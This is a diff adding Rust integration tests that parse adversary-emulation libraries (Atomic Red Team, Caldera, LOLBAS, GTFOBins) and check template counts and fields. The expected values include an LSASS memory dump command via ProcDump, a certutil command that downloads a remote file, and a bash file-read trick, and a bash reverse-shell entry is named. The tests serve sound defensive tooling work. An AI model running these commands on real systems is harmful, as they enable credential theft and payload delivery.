@@ -1,0 +1,340 @@
+//! Checks against the real content in `$AEGIS_DATA_DIR` (default: `shared/data` next to the
+//! repository). Each test builds, in memory, the archive GitHub would serve (one top folder,
+//! upstream paths) from the shared data, reads it with `read_text_files`, parses it, and compares
+//! with numbers computed here independently: Atomic Red Team's own CSV index, and simple line
+//! counts of the YAML files. The tests are `#[ignore]`d so that a plain `cargo nextest run`
+//! reports them as skipped; `make test` runs them (`--run-ignored all`) when the data is present,
+//! and then missing data is a failure, never a silent pass.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+use content::{Limits, Parsed, TextFile, content_hash, parse_templates, read_text_files, wanted_path};
+use domain::content::{TemplateContent, TemplateOrigin};
+
+fn data_dir() -> PathBuf {
+    match std::env::var_os("AEGIS_DATA_DIR") {
+        Some(d) => PathBuf::from(d),
+        None => PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"),
+    }
+}
+
+/// The source's folder in the data; a test asked to run without it fails and says where it looked.
+fn require(name: &str) -> PathBuf {
+    let dir = data_dir().join(name);
+    assert!(
+        dir.is_dir(),
+        "data not found at {} (set AEGIS_DATA_DIR to the directory holding {name}/)",
+        dir.display()
+    );
+    dir
+}
+
+/// Every file under `dir`, sorted, as (path relative to `dir`, bytes).
+fn files_under(dir: &Path) -> Vec<(String, Vec<u8>)> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                let rel = p.strip_prefix(dir).unwrap().to_string_lossy().replace('\\', "/");
+                out.push((rel, std::fs::read(&p).unwrap()));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+/// A GitHub-style tar.gz: everything under `<top>/`, in the order given.
+fn tar_gz(top: &str, files: &[(String, Vec<u8>)]) -> Vec<u8> {
+    let mut tar = tar::Builder::new(Vec::new());
+    let mut dir = tar::Header::new_ustar();
+    dir.set_entry_type(tar::EntryType::Directory);
+    dir.set_size(0);
+    dir.set_mode(0o755);
+    tar.append_data(&mut dir, format!("{top}/"), std::io::empty()).unwrap();
+    for (path, bytes) in files {
+        let mut h = tar::Header::new_ustar();
+        h.set_size(bytes.len() as u64);
+        h.set_mode(0o644);
+        tar.append_data(&mut h, format!("{top}/{path}"), bytes.as_slice()).unwrap();
+    }
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(&tar.into_inner().unwrap()).unwrap();
+    gz.finish().unwrap()
+}
+
+/// The same as a GitHub-style zip.
+fn zip(top: &str, files: &[(String, Vec<u8>)]) -> Vec<u8> {
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options =
+        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    zip.add_directory(format!("{top}/"), options).unwrap();
+    for (path, bytes) in files {
+        zip.start_file(format!("{top}/{path}"), options).unwrap();
+        zip.write_all(bytes).unwrap();
+    }
+    zip.finish().unwrap().into_inner()
+}
+
+fn read(origin: TemplateOrigin, archive: &[u8], name: &str) -> Vec<TextFile> {
+    read_text_files(archive, name, &Limits::default(), &|p| wanted_path(origin, p)).unwrap()
+}
+
+fn hashes(parsed: &Parsed) -> Vec<String> {
+    parsed.templates.iter().map(content_hash).collect()
+}
+
+/// Parses twice: the same files give the same content, hash for hash.
+fn parse_stable(origin: TemplateOrigin, files: &[TextFile]) -> Parsed {
+    let parsed = parse_templates(origin, files);
+    assert_eq!(hashes(&parsed), hashes(&parse_templates(origin, files)));
+    parsed
+}
+
+fn by_id(parsed: &Parsed) -> BTreeMap<&str, &TemplateContent> {
+    parsed.templates.iter().map(|t| (t.source_id.as_str(), t)).collect()
+}
+
+fn text(bytes: &[u8]) -> &str {
+    std::str::from_utf8(bytes).unwrap()
+}
+
+/// `atomics/T1003.001/T1003.001.yaml` and the repository's CSV index at its upstream path.
+fn atomic_layout(dir: &Path) -> Vec<(String, Vec<u8>)> {
+    let mut files: Vec<_> =
+        files_under(&dir.join("atomics")).into_iter().map(|(p, b)| (format!("atomics/{p}"), b)).collect();
+    let index = std::fs::read(dir.join("indexes/index.csv")).unwrap();
+    files.push(("atomics/Indexes/Indexes-CSV/index.csv".into(), index));
+    files
+}
+
+#[test]
+#[ignore = "needs the real data (AEGIS_DATA_DIR); make test runs it when present"]
+fn atomic_red_team_gives_one_template_per_test_of_the_csv_index() {
+    let dir = require("atomic-red-team");
+    // The oracle: GUID -> (technique, executor) from the official CSV index (one row per tactic)
+    let mut index: BTreeMap<String, (String, String)> = BTreeMap::new();
+    for row in csv::Reader::from_path(dir.join("indexes/index.csv")).unwrap().records() {
+        let row = row.unwrap();
+        index.insert(row[5].to_owned(), (row[1].to_owned(), row[6].to_owned()));
+    }
+    assert_eq!(index.len(), 1_790);
+
+    let layout = atomic_layout(&dir);
+    let origin = TemplateOrigin::AtomicRedTeam;
+    let files = read(origin, &tar_gz("atomic-red-team-master", &layout), "master.tar.gz");
+    assert_eq!(files.len(), 333);
+    assert!(files.iter().all(|f| f.path.starts_with("atomics/T") && f.path.ends_with(".yaml")));
+    let parsed = parse_stable(origin, &files);
+    assert!(parsed.errors.is_empty(), "{:?}", &parsed.errors[..parsed.errors.len().min(5)]);
+    assert_eq!(parsed.files_read, 333);
+    let got: BTreeMap<String, (String, String)> = parsed
+        .templates
+        .iter()
+        .map(|t| (t.source_id.clone(), (t.technique_ids.join(","), t.executor.clone().unwrap_or_default())))
+        .collect();
+    assert_eq!(got, index);
+
+    let t = by_id(&parsed)["0be2230c-9ab3-4ac2-8826-3199b9a0ebf8"];
+    assert_eq!(t.name, "Dump LSASS.exe Memory using ProcDump");
+    assert_eq!((t.platforms.as_slice(), t.elevation_required), (&["windows".to_owned()][..], true));
+    assert_eq!(t.command.as_deref(), Some(r##""#{procdump_exe}" -accepteula -ma lsass.exe #{output_file}"##));
+    assert_eq!(t.cleanup.as_deref(), Some(r##"del "#{output_file}" >nul 2> nul"##));
+    let output = t.arguments.iter().find(|a| a.name == "output_file").unwrap();
+    assert_eq!(output.default.as_deref(), Some(r"C:\Windows\Temp\lsass_dump.dmp"));
+    assert_eq!(t.upstream_path.as_deref(), Some("atomics/T1003.001/T1003.001.yaml"));
+
+    // The zip of the same tree gives the same templates
+    let from_zip =
+        parse_templates(origin, &read(origin, &zip("atomic-red-team-master", &layout), "master.zip"));
+    assert_eq!(hashes(&from_zip), hashes(&parsed));
+}
+
+#[test]
+#[ignore = "needs the real data (AEGIS_DATA_DIR); make test runs it when present"]
+fn atomics_with_attack_v19_ids_parse_and_repeat_guids_of_the_v18_files() {
+    let dir = require("atomic-red-team");
+    let edge: Vec<(String, Vec<u8>)> = files_under(&dir.join("edge-cases-attack-v19-ids"))
+        .into_iter()
+        .map(|(p, b)| {
+            let id = p.trim_end_matches(".yaml").to_owned();
+            (format!("atomics/{id}/{id}.yaml"), b)
+        })
+        .collect();
+    let guids = |files: &[(String, Vec<u8>)]| -> usize {
+        files
+            .iter()
+            .map(|(_, b)| {
+                text(b).lines().filter(|l| l.trim_start().starts_with("auto_generated_guid:")).count()
+            })
+            .sum()
+    };
+    let origin = TemplateOrigin::AtomicRedTeam;
+
+    // Alone, the three v19 files give their tests with the new ids (the sync flags them)
+    let parsed = parse_stable(origin, &read(origin, &tar_gz("atomic-red-team-master", &edge), "x.tar.gz"));
+    assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
+    assert_eq!(parsed.templates.len(), guids(&edge));
+    let techniques: BTreeSet<&str> =
+        parsed.templates.iter().flat_map(|t| t.technique_ids.iter().map(String::as_str)).collect();
+    assert_eq!(techniques, BTreeSet::from(["T1685.001", "T1686", "T1690"]));
+
+    // Next to the v18 files they repeat GUIDs (v19 moved tests to new ids): the first is kept
+    let mut both = atomic_layout(&dir);
+    both.extend(edge.iter().cloned());
+    let parsed = parse_templates(origin, &read(origin, &tar_gz("atomic-red-team-master", &both), "x.tar.gz"));
+    assert_eq!(parsed.templates.len(), 1_790);
+    assert_eq!(parsed.errors.len(), guids(&edge));
+    assert!(
+        parsed
+            .errors
+            .iter()
+            .all(|e| e.reason.contains("already read") && edge.iter().any(|(p, _)| *p == e.path))
+    );
+}
+
+#[test]
+#[ignore = "needs the real data (AEGIS_DATA_DIR); make test runs it when present"]
+fn caldera_gives_one_template_per_ability() {
+    let dir = require("caldera");
+    let mut layout: Vec<_> = files_under(&dir.join("abilities"))
+        .into_iter()
+        .map(|(p, b)| (format!("data/abilities/{p}"), b))
+        .collect();
+    let abilities = layout.len();
+    layout.extend(
+        files_under(&dir.join("adversaries")).into_iter().map(|(p, b)| (format!("data/adversaries/{p}"), b)),
+    );
+    // The oracle: the ids written in the files, and which use the flat `technique_id`
+    let mut ids = BTreeSet::new();
+    let mut flat = BTreeMap::new();
+    for (_, b) in layout.iter().filter(|(p, _)| p.starts_with("data/abilities/")) {
+        let id = text(b)
+            .lines()
+            .find_map(|l| l.strip_prefix("- id: ").or_else(|| l.strip_prefix("  id: ")))
+            .unwrap();
+        ids.insert(id.trim().to_owned());
+        if let Some(t) = text(b).lines().find_map(|l| l.strip_prefix("  technique_id: ")) {
+            flat.insert(id.trim().to_owned(), t.trim_matches(['\'', '"', ' ']).to_owned());
+        }
+    }
+
+    let origin = TemplateOrigin::Caldera;
+    let files = read(origin, &tar_gz("stockpile-master", &layout), "master.tar.gz");
+    assert_eq!(files.len(), abilities);
+    let parsed = parse_stable(origin, &files);
+    assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
+    assert_eq!(parsed.templates.len(), 209);
+    assert_eq!(by_id(&parsed).keys().map(|k| k.to_string()).collect::<BTreeSet<_>>(), ids);
+    assert_eq!(flat.len(), 19);
+    let by_id = by_id(&parsed);
+    for (id, technique) in &flat {
+        assert_eq!(&by_id[id.as_str()].technique_ids, std::slice::from_ref(technique), "{id}");
+    }
+    assert!(parsed.templates.iter().all(|t| t.tactics.len() == 1));
+    // Only abilities whose file holds no command at all (one that just cleans up) have none
+    let without: BTreeSet<&str> =
+        parsed.templates.iter().filter(|t| t.command.is_none()).map(|t| t.source_id.as_str()).collect();
+    assert_eq!(without, BTreeSet::from(["4cd4eb44-29a7-4259-91ae-e457b283a880"]));
+    assert!(
+        !text(
+            &std::fs::read(dir.join("abilities/defense-evasion/4cd4eb44-29a7-4259-91ae-e457b283a880.yml"))
+                .unwrap()
+        )
+        .contains("command:")
+    );
+
+    let t = by_id["0093c0e0-68b6-4cab-b0d4-2b40b3c78f71"];
+    assert_eq!((t.name.as_str(), t.technique_ids.as_slice()), ("Enumerate VMs", &["T1673".to_owned()][..]));
+    assert_eq!((t.platforms.as_slice(), t.executor.as_deref()), (&["linux".to_owned()][..], Some("sh")));
+    assert_eq!(t.command.as_deref(), Some("acrnctl list"));
+    assert_eq!(
+        t.upstream_path.as_deref(),
+        Some("data/abilities/discovery/0093c0e0-68b6-4cab-b0d4-2b40b3c78f71.yml")
+    );
+}
+
+#[test]
+#[ignore = "needs the real data (AEGIS_DATA_DIR); make test runs it when present"]
+fn lolbas_gives_one_template_per_command() {
+    let dir = require("lolbas");
+    let mut layout: Vec<_> =
+        files_under(&dir.join("yml")).into_iter().map(|(p, b)| (format!("yml/{p}"), b)).collect();
+    let commands: usize = layout
+        .iter()
+        .map(|(_, b)| text(b).lines().filter(|l| l.trim_start().starts_with("- Command:")).count())
+        .sum();
+    let entries = layout.len();
+    layout.push(("YML-Template.yml".into(), std::fs::read(dir.join("YML-Template.yml")).unwrap()));
+
+    let origin = TemplateOrigin::Lolbas;
+    let files = read(origin, &zip("LOLBAS-master", &layout), "master.zip");
+    assert_eq!(files.len(), entries);
+    let parsed = parse_stable(origin, &files);
+    assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
+    assert_eq!((parsed.templates.len(), commands), (482, 482));
+
+    let t = by_id(&parsed)["Certutil.exe#1"];
+    assert_eq!(
+        (t.name.as_str(), t.technique_ids.as_slice()),
+        ("Certutil.exe: Download file from Internet", &["T1105".to_owned()][..])
+    );
+    assert_eq!(t.command.as_deref(), Some("certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}"));
+    assert_eq!(
+        (t.privileges.as_deref(), t.platforms.as_slice()),
+        (Some("User"), &["windows".to_owned()][..])
+    );
+    assert_eq!(t.upstream_path.as_deref(), Some("yml/OSBinaries/Certutil.yml"));
+    assert!(by_id(&parsed).contains_key("Certutil.exe#7") && !by_id(&parsed).contains_key("Certutil.exe#8"));
+}
+
+#[test]
+#[ignore = "needs the real data (AEGIS_DATA_DIR); make test runs it when present"]
+fn gtfobins_gives_one_template_per_binary_and_function() {
+    let dir = require("gtfobins");
+    let mut layout: Vec<_> =
+        files_under(&dir.join("_gtfobins")).into_iter().map(|(p, b)| (format!("_gtfobins/{p}"), b)).collect();
+    // The oracle: the function keys (two-space indent under `functions:`) of every binary, less
+    // `inherit`, the one function functions.yml maps to no technique
+    let mut expected = BTreeSet::new();
+    for (path, b) in &layout {
+        let binary = path.trim_start_matches("_gtfobins/");
+        let mut in_functions = false;
+        for l in text(b).lines() {
+            if !l.is_empty() && !l.starts_with(' ') {
+                in_functions = l == "functions:";
+            } else if let Some(f) = l.strip_prefix("  ").and_then(|l| l.strip_suffix(':'))
+                && in_functions
+                && f.bytes().all(|c| c.is_ascii_lowercase() || c == b'-')
+                && f != "inherit"
+            {
+                expected.insert(format!("{binary}#{f}"));
+            }
+        }
+    }
+    let binaries = layout.len();
+    for name in ["functions.yml", "contexts.yml"] {
+        layout.push((format!("_data/{name}"), std::fs::read(dir.join("_data").join(name)).unwrap()));
+    }
+
+    let origin = TemplateOrigin::Gtfobins;
+    let files = read(origin, &tar_gz("GTFOBins.github.io-master", &layout), "master.tar.gz");
+    assert_eq!(files.len(), binaries + 1);
+    let parsed = parse_stable(origin, &files);
+    assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
+    assert_eq!(parsed.files_read, binaries + 1);
+    assert_eq!(by_id(&parsed).keys().map(|k| k.to_string()).collect::<BTreeSet<_>>(), expected);
+
+    let by_id = by_id(&parsed);
+    let t = by_id["bash#file-read"];
+    assert_eq!((t.name.as_str(), t.technique_ids.as_slice()), ("bash: File read", &["T1005".to_owned()][..]));
+    assert_eq!(t.command.as_deref(), Some(r#"bash -c 'echo "$(</path/to/input-file)"'"#));
+    assert!(t.description.contains("Example 2: This only works interactively"), "{}", t.description);
+    assert_eq!(by_id["bash#reverse-shell"].technique_ids, ["T1059", "T1071"]);
+}
